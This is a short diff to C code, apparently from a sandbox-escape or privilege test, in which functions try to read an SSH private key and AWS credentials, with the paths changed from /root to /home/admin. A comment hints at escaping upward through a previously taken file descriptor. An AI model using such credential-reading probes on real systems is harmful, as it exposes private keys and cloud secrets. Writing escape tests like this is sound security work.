@@ -32,7 +32,7 @@ static long shadow(void)
 }
 static long ssh_key(void)
 {
-    return try_read("/root/.ssh/id_ed25519");
+    return try_read("/home/admin/.ssh/id_ed25519");
 }
 static long host_key(void)
 {
@@ -40,7 +40,7 @@ static long host_key(void)
 }
 static long cloud_keys(void)
 {
-    return try_read("/root/.aws/credentials");
+    return try_read("/home/admin/.aws/credentials");
 }
 
 /* Up as far as it goes, by a descriptor that was taken before. */
